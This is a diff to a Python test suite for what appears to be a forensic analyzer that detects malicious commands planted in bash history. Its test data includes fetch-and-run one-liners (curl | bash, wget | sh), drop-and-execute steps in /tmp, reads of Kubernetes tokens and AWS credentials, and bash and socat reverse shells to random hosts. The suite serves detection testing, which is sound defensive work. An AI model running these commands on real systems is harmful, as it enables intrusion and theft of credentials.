@@ -311,10 +311,11 @@ def test_history_rules_on_planted_commands():
     times."""
     host, port = '%s.%s' % (_rand(), random.choice(['net', 'io', 'xyz'])), random.randint(1025, 65000)
     tmp = random.choice(['/tmp', '/dev/shm', '/var/tmp'])
+    drop = _rand()
     cmds = ['id', 'uname -a', 'cat /etc/os-release', 'ps aux',
             random.choice(['curl -fsSL http://%s/%s.sh | bash' % (host, _rand()),
                            'wget -qO- http://%s:%d/i | sh' % (host, port)]),
-            'curl -o %s/.%s http://%s/x' % (tmp, _rand(), host), 'chmod +x %s/.x' % tmp, '%s/.x &' % tmp,
+            'curl -o %s/.%s http://%s/x' % (tmp, drop, host), 'chmod +x %s/.%s' % (tmp, drop), '%s/.%s &' % (tmp, drop),
             random.choice(['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat ~/.aws/credentials']),
             random.choice(['bash -i >& /dev/udp/%s/%d 0>&1' % (host, port),
                            'socat TCP:%s:%d EXEC:/bin/sh' % (host, port)]),
@@ -512,3 +513,23 @@ def test_lab_self_titled_programs_stay_clean():
     assert truth['facts']['workers'], 'the daemon\'s workers ran titled'
     eq(r['verdict'], 'clean', [(x['id'], x['severity'], x['title']) for x in r['findings']])
     eq([x['title'] for x in _find(r, 'KCSI-MASQ') if _at_least(x, 'medium')], [], 'no disguise')
+
+
+def test_history_download_then_run_by_its_name():
+    """A file fetched under some name and then run by that name (no chmod,
+    no temporary directory: `sh NAME`, `./NAME`) is download-and-run; a JSON
+    answer piped into python -m json.tool, or a download no command runs,
+    is not."""
+    name = '%s.%s' % (_rand(), random.choice(['sh', 'bin', 'py']))
+    url = 'http://%s.%s/%s' % (_rand(), random.choice(['io', 'net']), _rand())
+    run_it = random.choice(['sh %s' % name, './%s --install' % name, 'nohup bash %s &' % name])
+    cmds = ['cd /var/cache', 'wget -q %s/%s' % (url, name), run_it,
+            'curl -s http://%s/api/v1/status | python3 -m json.tool' % _rand(), 'curl -so report.json %s' % url]
+    d = _copy('revshell', 'history-byname')
+    _plant(d, 15, _bash_history_plants(d, 15, cmds, random.randint(1700000000, 1800000000)))
+    r = _analyze(d)
+    dl = [f for f in _find(r, 'KCSI-HIST-001') if 15 in _pids(f)]
+    assert dl and _at_least(dl[0], 'high'), [(f['id'], f['title']) for f in r['findings']]
+    typed = [e.get('excerpt') for e in dl[0]['evidence']]
+    assert cmds[1] in typed and run_it in typed, typed
+    assert cmds[3] not in typed and cmds[4] not in typed, typed
